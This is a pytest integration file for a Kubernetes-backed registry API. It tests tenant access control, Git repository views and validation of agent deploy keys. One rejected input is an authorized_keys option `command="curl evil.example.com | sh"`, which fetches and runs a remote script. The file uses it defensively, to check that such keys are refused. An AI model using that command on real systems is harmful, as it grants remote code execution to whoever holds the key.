"""The registry's Git repository routes, the agent's key and the install answer's catalog, against the real
kube-apiserver through the real FastAPI app.

The API's own client is a ServiceAccount bound to exactly stacks.install.API_RULES (so these tests also prove those
rights suffice: `hubgitrepos: get` for the install answer), tenant admins are ServiceAccounts bound to the
tenant-admin ClusterRole in their namespace only, and agents hold the token a real install gave them. HubGitRepos
are written here as the service's Git repository controller would (the object, then its status subresource).

Proven: a tenant admin reads its own repositories and, for another tenant's, gets the one fixed 403; the answer
carries a deploy key's name, fingerprint and write access and never the forge's key ID; only a HubGitRepo a
template made for that cluster, controlled by the HubCluster of that name now, is its catalog; only a cluster's own
agent (granted for that HubCluster, not an earlier one of its name) sets its key, and only one plain public key
(no options, one line, no weak RSA, data matching the type); the same key again writes nothing; issuing a new
bootstrap token clears the key; the install answer carries the catalog's SSH URL and host keys.
"""
from __future__ import annotations

import base64
import json
import struct
import time
import uuid
from dataclasses import dataclass, field
from typing import Any, Iterator

import httpx
import pytest
from fastapi.testclient import TestClient
from kubernetes import client
from openapi_spec_validator import validate

from automation.adapters.kube.agent import revoke_agent
from automation.adapters.sshkeys import new_key_pair
from automation.api import agents, bootstrap, gitrepos, serve
from automation.api.app import FORBIDDEN, ApiSettings, ClientCache, Registry, create_app
from automation.api.models import GitRepoView
from stacks.admission import TENANT_ADMIN_CLUSTERROLE
from stacks.install import AGENT, API_RULES, CATALOG_CONFIGMAP
from stacks.names import (AGENT_CLUSTER_LABEL, API_VERSION, GITREPO_ROLE_LABEL, GROUP, TENANT_ANNOTATION, TENANT_LABEL,
                          VERSION)
from tests.envtest import EnvTest, kube_apiserver  # noqa: F401 - the fixture
from tests.registry_rbac import (bind_cluster_role, delete_tenant, eventually, install_registry_rules, sa_subject,
                                 service_account_token, unbind_cluster_role, undo_all)

SUFFIX = uuid.uuid4().hex[:6]
RBAC = "rbac.authorization.k8s.io"
HOST_KEY = ("[127.0.0.1]:2222 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl")
FORGE_KEY_ID = "918273645"  # the forge's ID of a deploy key: never shown


def custom(api: client.ApiClient) -> client.CustomObjectsApi:
    return client.CustomObjectsApi(api)


def bearer(token: str | None) -> dict[str, str]:
    return {} if token is None else {"Authorization": f"Bearer {token}"}


def retry(call: Any, timeout: float = 15.0) -> Any:
    """`call()` until it no longer fails an assertion (RBAC caches take a moment to see new bindings)."""
    deadline = time.monotonic() + timeout
    while True:
        try:
            return call()
        except AssertionError:
            if time.monotonic() > deadline:
                raise
        time.sleep(0.2)


def status(response: httpx.Response, code: int) -> httpx.Response:
    assert response.status_code == code, response.text
    return response


# --------------------------------------------------------------------------- fixtures

@pytest.fixture(scope="module")
def admin(kube_apiserver) -> Iterator[client.ApiClient]:
    with kube_apiserver.api_client() as api:
        install_registry_rules(api)  # the tenant-admin ClusterRole as stacks.admission writes it now
        yield api


@pytest.fixture(scope="module")
def own(kube_apiserver, admin) -> Iterator[client.ApiClient]:
    """The API's own client: a ServiceAccount bound to exactly API_RULES, nothing else (its own names: every module
    that uses this fixture makes one, and namespaces never finish deleting here)."""
    namespace, name = f"registry-git-{uuid.uuid4().hex[:8]}", "registry-api"
    core = client.CoreV1Api(admin)
    core.create_namespace({"metadata": {"name": namespace}})
    role = namespace
    bind_cluster_role(admin, role, [dict(rule) for rule in API_RULES], [sa_subject(namespace, name)])
    api = kube_apiserver.api_client(service_account_token(admin, namespace, name))
    eventually(lambda: custom(api).list_custom_object_for_all_namespaces(GROUP, VERSION, "hubclusters", limit=1))
    yield api
    api.close()
    unbind_cluster_role(admin, role)
    core.delete_namespaced_service_account(name, namespace)
    core.delete_namespace(namespace)


@pytest.fixture(scope="module")
def http(kube_apiserver, own) -> Iterator[TestClient]:
    settings = ApiSettings(install_rate=1000.0, install_burst=100_000, public_url="https://registry.example.com",
                           agent_image="ghcr.io/hubwright/hubwright:test", agent_token_seconds=3600,
                           hub_name=f"hub-{SUFFIX}")
    reg = Registry(settings=settings, own=own, callers=ClientCache(kube_apiserver.configuration(), 64), facts=None)
    with TestClient(create_app(reg, routers=(bootstrap.router, agents.router, gitrepos.router))) as test_client:
        yield test_client


@dataclass
class Hub:
    """What one test made on the hub; `cleanup()` deletes it."""

    env: EnvTest
    admin: client.ApiClient
    http: TestClient
    tenants: list[str] = field(default_factory=list)
    clusters: list[tuple[str, str]] = field(default_factory=list)
    repos: list[tuple[str, str]] = field(default_factory=list)
    users: list[tuple[str, str]] = field(default_factory=list)

    def tenant(self, **spec: Any) -> str:
        """A Tenant and its namespace of the same name, annotated as the tenant controller would."""
        name = f"t-git-{uuid.uuid4().hex[:8]}"
        custom(self.admin).create_cluster_custom_object(GROUP, VERSION, "hubtenants", {
            "apiVersion": API_VERSION, "kind": "HubTenant", "metadata": {"name": name}, "spec": spec})
        self.tenants.append(name)
        client.CoreV1Api(self.admin).create_namespace({"metadata": {
            "name": name, "labels": {TENANT_LABEL: name}, "annotations": {TENANT_ANNOTATION: name}}})
        custom(self.admin).patch_cluster_custom_object_status(GROUP, VERSION, "hubtenants", name,
                                                              {"status": {"namespace": name}})
        return name

    def cluster(self, tenant: str, name: str | None = None) -> str:
        name = name or f"c-git-{uuid.uuid4().hex[:8]}"
        custom(self.admin).create_namespaced_custom_object(GROUP, VERSION, tenant, "hubclusters", {
            "apiVersion": API_VERSION, "kind": "HubCluster", "metadata": {"name": name}, "spec": {}})
        self.clusters.append((tenant, name))
        return name

    def read(self, tenant: str, cluster: str) -> dict[str, Any]:
        return custom(self.admin).get_namespaced_custom_object(GROUP, VERSION, tenant, "hubclusters", cluster)

    def tenant_admin(self, tenant: str, name: str) -> str:
        """A ServiceAccount bound to the tenant-admin ClusterRole in the tenant's namespace only; its token, once
        RBAC sees the binding."""
        client.RbacAuthorizationV1Api(self.admin).create_namespaced_role_binding(tenant, {
            "metadata": {"name": name}, "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole",
                                                    "name": TENANT_ADMIN_CLUSTERROLE},
            "subjects": [{"kind": "ServiceAccount", "name": name, "namespace": tenant}]})
        self.users.append((tenant, name))
        return service_account_token(self.admin, tenant, name)

    def repo(self, tenant: str, name: str, *, labels: dict[str, str], owner: tuple[str, str, str] | None,
             path: str, repo_status: dict[str, Any] | None = None) -> dict[str, Any]:
        """A HubGitRepo and its status, as the service's controller writes them."""
        meta: dict[str, Any] = {"name": name, "labels": labels}
        if owner is not None:
            kind, owner_name, uid = owner
            meta["ownerReferences"] = [{"apiVersion": API_VERSION, "kind": kind, "name": owner_name, "uid": uid,
                                        "controller": True, "blockOwnerDeletion": False}]
        objects = custom(self.admin)
        objects.create_namespaced_custom_object(GROUP, VERSION, tenant, "hubgitrepos", {
            "apiVersion": API_VERSION, "kind": "HubGitRepo", "metadata": meta,
            "spec": {"forge": "gitea", "apiURL": "http://127.0.0.1:3000", "credentialsSecretRef": {"name": "forge"},
                     "path": path, "deletionPolicy": "Retain"}})
        self.repos.append((tenant, name))
        if repo_status is not None:
            objects.patch_namespaced_custom_object_status(GROUP, VERSION, tenant, "hubgitrepos", name,
                                                          {"status": repo_status})
        return objects.get_namespaced_custom_object(GROUP, VERSION, tenant, "hubgitrepos", name)

    def catalog(self, tenant: str, cluster: str, uid: str | None = None, **repo_status: Any) -> dict[str, Any]:
        """The catalog HubGitRepo of a cluster (controlled by the HubCluster of `uid`, default the current one)."""
        uid = uid or self.read(tenant, cluster)["metadata"]["uid"]
        return self.repo(tenant, f"cluster-{cluster}", path=f"hub/{tenant}.{cluster}",
                         labels={TENANT_LABEL: tenant, AGENT_CLUSTER_LABEL: cluster, GITREPO_ROLE_LABEL: "cluster"},
                         owner=("HubCluster", cluster, uid), repo_status=ready_status(tenant, cluster, **repo_status))

    def install(self, tenant: str, cluster: str) -> dict[str, Any]:
        """A bootstrap token issued (as the hub admin) and redeemed: the install answer."""
        issued = status(self.http.post(f"/tenants/{tenant}/clusters/{cluster}/bootstrap-token",
                                       headers=bearer(self.env.token)), 201)
        return status(self.http.get("/install/agent.json", params={"token": issued.json()["token"]}), 200).json()

    def agent_token(self, tenant: str, cluster: str) -> str:
        return item(self.install(tenant, cluster), "Secret", AGENT)["stringData"]["token"]

    def put_key(self, tenant: str, cluster: str, token: str | None, key: Any) -> httpx.Response:
        return self.http.put(f"/tenants/{tenant}/clusters/{cluster}/deploy-key", json={"publicKey": key},
                             headers=bearer(token))

    def cleanup(self) -> None:
        objects, core = custom(self.admin), client.CoreV1Api(self.admin)
        rbac = client.RbacAuthorizationV1Api(self.admin)
        calls = [lambda ns=ns, n=n: objects.delete_namespaced_custom_object(GROUP, VERSION, ns, "hubgitrepos", n)
                 for ns, n in self.repos]
        calls += [lambda ns=ns, n=n: revoke_agent(self.admin, ns, n) for ns, n in self.clusters]
        calls += [lambda ns=ns, n=n: objects.delete_namespaced_custom_object(GROUP, VERSION, ns, "hubclusters", n)
                  for ns, n in self.clusters]
        calls += [lambda ns=ns, n=n: rbac.delete_namespaced_role_binding(n, ns) for ns, n in self.users]
        calls += [lambda ns=ns, n=n: core.delete_namespaced_service_account(n, ns) for ns, n in self.users]
        calls += [lambda n=n: delete_tenant(self.admin, n) for n in self.tenants]
        calls += [lambda n=n: core.delete_namespace(n) for n in self.tenants]
        undo_all(calls)


@pytest.fixture
def hub(kube_apiserver, admin, http) -> Iterator[Hub]:
    made = Hub(kube_apiserver, admin, http)
    yield made
    made.cleanup()


def item(body: dict[str, Any], kind: str, name: str) -> dict[str, Any]:
    [found] = [m for m in body["items"] if m["kind"] == kind and m["metadata"]["name"] == name]
    return found


def ready_status(tenant: str, cluster: str | None = None, **extra: Any) -> dict[str, Any]:
    repo = f"{tenant}.{cluster}" if cluster else tenant
    agent_key = new_key_pair("hubwright-agent")
    found = {
        "phase": "Ready", "url": f"http://127.0.0.1:3000/hub/{repo}.git", "sshURL": f"ssh://git@127.0.0.1:2222/hub/{repo}.git",
        "hostKeys": [HOST_KEY], "repositoryID": "42", "ownership": "Created", "observedGeneration": 1,
        "deployKeys": [{"name": "hubwright-agent", "id": FORGE_KEY_ID, "fingerprint": agent_key.fingerprint,
                        "write": False}],
        "conditions": [{"type": "Ready", "status": "True", "reason": "Synced", "message": "the forge matches the spec",
                        "lastTransitionTime": "2026-11-25T16:00:00Z"}],
    }
    found.update(extra)
    return found


# --------------------------------------------------------------------------- GET .../gitrepo

def test_a_tenant_admin_reads_its_own_repositories_and_gets_the_one_403_for_anothers(hub):
    a, b = hub.tenant(), hub.tenant()
    a_cluster, b_cluster = hub.cluster(a), hub.cluster(b)
    tenant_uid = custom(hub.admin).get_cluster_custom_object(GROUP, VERSION, "hubtenants", a)["metadata"]["uid"]
    hub.repo(a, f"tenant-{a}", path=f"hub/{a}", labels={TENANT_LABEL: a, GITREPO_ROLE_LABEL: "tenant"},
             owner=("HubTenant", a, tenant_uid), repo_status=ready_status(a))
    hub.catalog(a, a_cluster)
    hub.catalog(b, b_cluster)
    alice, bob = hub.tenant_admin(a, "alice"), hub.tenant_admin(b, "bob")

    mine = retry(lambda: status(hub.http.get(f"/tenants/{a}/gitrepo", headers=bearer(alice)), 200)).json()
    GitRepoView.model_validate(mine)  # what the OpenAPI document promises
    assert {k: mine[k] for k in ("name", "managed", "path", "phase", "sshURL", "hostKeys")} == {
        "name": f"tenant-{a}", "managed": True, "path": f"hub/{a}", "phase": "Ready",
        "sshURL": f"ssh://git@127.0.0.1:2222/hub/{a}.git", "hostKeys": [HOST_KEY]}
    assert (mine["ready"]["status"], mine["ready"]["reason"]) == ("True", "Synced")
    catalog = status(hub.http.get(f"/tenants/{a}/clusters/{a_cluster}/gitrepo", headers=bearer(alice)), 200).json()
    assert catalog["path"] == f"hub/{a}.{a_cluster}" and catalog["url"].startswith("http://127.0.0.1:3000/")
    # a deploy key's name, fingerprint and write access: never the forge's ID of it, nor the key
    assert [set(key) for key in catalog["deployKeys"]] == [{"name", "fingerprint", "write"}]
    assert catalog["deployKeys"][0]["fingerprint"].startswith("SHA256:") and FORGE_KEY_ID not in json.dumps(catalog)

    retry(lambda: status(hub.http.get(f"/tenants/{b}/gitrepo", headers=bearer(bob)), 404))  # bob's RBAC is in
    nobody = hub.http.get("/tenants/t-never-made-000000/gitrepo", headers=bearer(alice))
    for path in (f"/tenants/{b}/gitrepo", f"/tenants/{b}/clusters/{b_cluster}/gitrepo",
                 f"/tenants/{b}/clusters/no-such-cluster/gitrepo"):
        refused = hub.http.get(path, headers=bearer(alice))
        assert refused.status_code == 403 and refused.json() == {"detail": FORBIDDEN}, (path, refused.text)
        assert b not in refused.text
    assert nobody.status_code == 403 and nobody.json() == {"detail": FORBIDDEN}  # no telling which tenants exist
    assert hub.http.get(f"/tenants/{a}/gitrepo").status_code == 401
    assert status(hub.http.get(f"/tenants/{b}/clusters/{b_cluster}/gitrepo", headers=bearer(hub.env.token)),
                  200).json()["name"] == f"cluster-{b_cluster}"  # the hub administrator reads every one


def test_a_tenant_without_a_managed_repository_answers_with_its_url_or_404(hub):
    named = hub.tenant(gitRepoURL="ssh://git@git.example.com/team/config.git")
    bare = hub.tenant()
    cluster = hub.cluster(bare)
    found = status(hub.http.get(f"/tenants/{named}/gitrepo", headers=bearer(hub.env.token)), 200).json()
    assert found == GitRepoView(managed=False, url="ssh://git@git.example.com/team/config.git").model_dump(
        mode="json", by_alias=True)
    assert "no Git repository" in status(hub.http.get(f"/tenants/{bare}/gitrepo", headers=bearer(hub.env.token)),
                                         404).json()["detail"]
    status(hub.http.get(f"/tenants/{bare}/clusters/{cluster}/gitrepo", headers=bearer(hub.env.token)), 404)


def test_only_a_hubgitrepo_made_for_the_cluster_now_is_its_catalog(hub):
    """A HubGitRepo of the catalog's name that another HubCluster of that name controlled (deleted while no garbage
    collector ran), or that no template made for the cluster, is not its catalog: the GET and the install answer
    both leave it out. Likewise a tenant's repository controlled by an earlier HubTenant of its name."""
    tenant = hub.tenant()
    hub.repo(tenant, f"tenant-{tenant}", path=f"hub/{tenant}", labels={TENANT_LABEL: tenant, GITREPO_ROLE_LABEL: "tenant"},
             owner=("HubTenant", tenant, str(uuid.uuid4())), repo_status=ready_status(tenant))
    status(hub.http.get(f"/tenants/{tenant}/gitrepo", headers=bearer(hub.env.token)), 404)
    earlier, unlabelled = hub.cluster(tenant), hub.cluster(tenant)
    hub.catalog(tenant, earlier, uid=str(uuid.uuid4()))  # an earlier HubCluster's
    hub.repo(tenant, f"cluster-{unlabelled}", path=f"hub/{tenant}.{unlabelled}", labels={},
             owner=("HubCluster", unlabelled, hub.read(tenant, unlabelled)["metadata"]["uid"]),
             repo_status=ready_status(tenant, unlabelled))
    for cluster in (earlier, unlabelled):
        status(hub.http.get(f"/tenants/{tenant}/clusters/{cluster}/gitrepo", headers=bearer(hub.env.token)), 404)
    assert hub.install(tenant, earlier)["gitRepo"] is None


def test_the_openapi_document_describes_the_git_routes(http):
    document = http.get("/openapi.json").json()
    validate(document)
    served = create_app(http.app.state.registry, routers=serve.ROUTERS).openapi()["paths"]  # the API command's
    assert {"/tenants/{tenant}/gitrepo", "/tenants/{tenant}/clusters/{cluster}/deploy-key"} <= set(served)
    paths = document["paths"]
    assert {"get"} <= set(paths["/tenants/{tenant}/gitrepo"])
    assert {"get"} <= set(paths["/tenants/{tenant}/clusters/{cluster}/gitrepo"])
    put = paths["/tenants/{tenant}/clusters/{cluster}/deploy-key"]["put"]
    assert put["requestBody"]["content"]["application/json"]["schema"] == {"$ref": "#/components/schemas/AgentKeyPut"}
    assert put["security"] == [{"kubernetesToken": []}]
    schemas = document["components"]["schemas"]
    assert set(schemas["DeployKeyView"]["properties"]) == {"name", "fingerprint", "write"}
    assert {"url", "sshURL", "hostKeys", "phase", "ready", "deployKeys"} <= set(schemas["GitRepoView"]["properties"])
    assert "gitRepo" in schemas["InstallView"]["properties"]


# --------------------------------------------------------------------------- PUT .../deploy-key

def _rsa(bits: int) -> str:
    """An ssh-rsa public key line with a modulus of `bits` bits (a made-up one: only its size matters here)."""
    def string(data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + data
    blob = string(b"ssh-rsa") + string(b"\x01\x00\x01") + string(b"\x00" + b"\xc3" * (bits // 8))
    return f"ssh-rsa {base64.b64encode(blob).decode()}"


def test_only_the_clusters_own_agent_sets_its_key_and_only_one_plain_key(hub):
    """The attacks: a tenant admin, the hub admin, another cluster's agent, an authorized_keys line with options
    (command= runs on the forge for whoever holds the key), a second line (a second key), a weak RSA key, a blob
    of another type, a private key. All refused; the status keeps no key."""
    tenant = hub.tenant()
    cluster, other = hub.cluster(tenant), hub.cluster(tenant)
    agent, stranger = hub.agent_token(tenant, cluster), hub.agent_token(tenant, other)
    alice = hub.tenant_admin(tenant, "alice")
    key = new_key_pair("hubwright-agent")
    retry(lambda: status(hub.http.get(f"/tenants/{tenant}/clusters/{cluster}/gitrepo", headers=bearer(alice)), 404))

    for token in (alice, hub.env.token, stranger):
        refused = hub.put_key(tenant, cluster, token, key.public)
        assert refused.status_code == 403 and refused.json() == {"detail": FORBIDDEN}, refused.text
    assert hub.put_key(tenant, cluster, None, key.public).status_code == 401
    ed25519_blob = key.public.split()[1]
    for bad, why in (
            (f'command="curl evil.example.com | sh",no-pty {key.public}', "no options"),
            (f"{key.public}\nssh-ed25519 {new_key_pair('x').public.split()[1]}", "one line"),
            (_rsa(2048), "at least 3072 bits"),
            (f"ssh-rsa {ed25519_blob}", "not a ssh-rsa key"),
            (key.private, "one line"),
            (f"{key.public} two words", "no options"),
            ("", "at least 1 character"),
            (7, "string"),
    ):
        refused = hub.put_key(tenant, cluster, agent, bad)
        assert refused.status_code == 422, (bad, refused.text)
        assert refused.json()["detail"][0]["field"] == "publicKey" and why in refused.json()["message"], refused.text
    assert "agentKey" not in (hub.read(tenant, cluster).get("status") or {})

    taken = retry(lambda: status(hub.put_key(tenant, cluster, agent, f"  {key.public}  "), 200)).json()
    assert taken["publicKey"] == key.public and taken["fingerprint"] == key.fingerprint
    stored = hub.read(tenant, cluster)
    assert stored["status"]["agentKey"] == taken
    again = status(hub.put_key(tenant, cluster, agent, key.public), 200).json()
    assert again == taken and hub.read(tenant, cluster)["metadata"]["resourceVersion"] == \
        stored["metadata"]["resourceVersion"]  # the same key: nothing written
    assert "agentKey" not in (hub.read(tenant, other).get("status") or {})  # the stranger's cluster: untouched
    assert status(hub.put_key(tenant, cluster, agent, _rsa(3072)), 200).json()["publicKey"].startswith("ssh-rsa ")


def test_an_agent_of_an_earlier_cluster_of_the_same_name_cannot_set_the_key(hub):
    tenant = hub.tenant()
    cluster = hub.cluster(tenant)
    agent = hub.agent_token(tenant, cluster)
    key = new_key_pair("hubwright-agent")
    retry(lambda: status(hub.put_key(tenant, cluster, agent, key.public), 200))
    custom(hub.admin).delete_namespaced_custom_object(GROUP, VERSION, tenant, "hubclusters", cluster)
    custom(hub.admin).create_namespaced_custom_object(GROUP, VERSION, tenant, "hubclusters", {
        "apiVersion": API_VERSION, "kind": "HubCluster", "metadata": {"name": cluster}, "spec": {}})
    refused = hub.put_key(tenant, cluster, agent, key.public)  # no service and no garbage collector: the agent stays
    assert refused.status_code == 403 and "earlier HubCluster" in refused.json()["detail"], refused.text
    assert "agentKey" not in (hub.read(tenant, cluster).get("status") or {})


def test_a_new_bootstrap_token_clears_the_agents_key(hub):
    tenant = hub.tenant()
    cluster = hub.cluster(tenant)
    agent = hub.agent_token(tenant, cluster)
    retry(lambda: status(hub.put_key(tenant, cluster, agent, new_key_pair("hubwright-agent").public), 200))
    assert hub.read(tenant, cluster)["status"]["agentKey"]["fingerprint"].startswith("SHA256:")
    status(hub.http.post(f"/tenants/{tenant}/clusters/{cluster}/bootstrap-token", headers=bearer(hub.env.token)),
           201)
    held = hub.read(tenant, cluster)["status"]
    assert "agentKey" not in held and held["bootstrapToken"]["used"] is False


# --------------------------------------------------------------------------- the install answer

def test_the_install_answer_carries_the_catalog_and_a_new_install_id_each_time(hub):
    tenant = hub.tenant()
    cluster, pending = hub.cluster(tenant), hub.cluster(tenant)
    hub.catalog(tenant, cluster)
    hub.catalog(tenant, pending, sshURL=None, phase="Pending", hostKeys=[], conditions=[])

    first = hub.install(tenant, cluster)
    ssh_url = f"ssh://git@127.0.0.1:2222/hub/{tenant}.{cluster}.git"
    assert first["gitRepo"] == {"url": f"http://127.0.0.1:3000/hub/{tenant}.{cluster}.git", "sshURL": ssh_url,
                                "hostKeys": [HOST_KEY]}
    config_map = item(first, "ConfigMap", CATALOG_CONFIGMAP)
    assert config_map["data"] == {"url": first["gitRepo"]["url"], "sshURL": ssh_url, "known_hosts": f"{HOST_KEY}\n"}
    second = hub.install(tenant, cluster)  # a reset: another install, so another key pair
    ids = [item(body, "Secret", AGENT)["stringData"]["installID"] for body in (first, second)]
    assert len(set(ids)) == 2 and all(len(one) >= 16 for one in ids)

    waiting = hub.install(tenant, pending)  # its repository has no SSH URL yet: nothing about it
    assert waiting["gitRepo"] is None and not [m for m in waiting["items"] if m["kind"] == "ConfigMap"]
    assert item(waiting, "Secret", AGENT)["stringData"]["installID"]  # its agent still makes its key
